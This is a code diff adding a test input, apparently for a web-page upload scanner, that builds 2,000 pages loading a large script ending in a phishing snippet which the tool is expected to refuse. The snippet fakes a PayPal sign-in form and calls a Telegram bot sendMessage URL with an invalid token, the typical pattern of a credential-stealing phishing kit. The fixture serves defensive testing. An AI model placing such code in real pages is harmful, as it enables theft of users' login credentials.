@@ -100,6 +100,7 @@ fn together() -> Vec<Kind> {
         }),
         kind("pages-of-one-script.zip", shared_script),
         kind("pages-of-all-scripts.zip", all_scripts),
+        kind("pages-of-refused-script.zip", refused_script),
     ]
 }
 
@@ -110,6 +111,16 @@ fn shared_script(bytes: usize) -> Input {
     let mut files = vec![("all.js".to_owned(), repeated(unit, bytes))];
     files.extend((0..1999).map(|number| (format!("{number}.html"), page.to_owned())));
     Input { name: "pages-of-one-script.zip".to_owned(), files }
+}
+
+/// Two thousand pages that are all refused for the end of one script, which makes up nearly the whole size.
+fn refused_script(bytes: usize) -> Input {
+    let end = "el.innerHTML='<h1>Sign in to your PayPal account</h1><input name=user><input type=password>';\
+               fetch('https://api.telegram.org/bot1:INVALID/sendMessage');\n";
+    let mut files = vec![("all.js".to_owned(), repeated("let x = 1;\n", bytes) + end)];
+    let page = "<script src=all.js></script>";
+    files.extend((0..1999).map(|number| (format!("{number}.html"), page.to_owned())));
+    Input { name: "pages-of-refused-script.zip".to_owned(), files }
 }
 
 /// A hundred scripts and pages that load each of them.
